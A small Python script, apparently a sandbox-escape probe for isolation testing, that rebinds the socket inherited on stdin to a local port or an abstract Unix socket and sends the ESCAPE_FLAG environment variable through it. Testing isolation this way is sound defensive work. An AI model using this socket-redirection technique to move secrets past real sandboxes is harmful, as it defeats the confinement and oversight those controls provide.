"""Turn the socket of our input to somebody else: `redirect.py stream PORT` or `datagram NAME`."""

import ctypes
import os
import socket
import struct
import sys

ANYBODY = struct.pack("HHI8x", socket.AF_UNSPEC, 0, 0)


def main(way: str, where: str) -> int:
    with socket.socket(fileno=os.dup(0)) as line:
        if way == "datagram":
            line.sendto(os.environ["ESCAPE_FLAG"].encode(), f"\0{where}")
            return 1  # whether it came, others judge
        ctypes.CDLL(None).connect(line.fileno(), ANYBODY, len(ANYBODY))
        line.settimeout(2)
        line.connect(("127.0.0.1", int(where)))
        line.send(f"GET / HTTP/1.1\r\nHost: {os.environ['ESCAPE_FLAG']}\r\n\r\n".encode())
        sys.stdout.buffer.write(line.recv(4096))
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
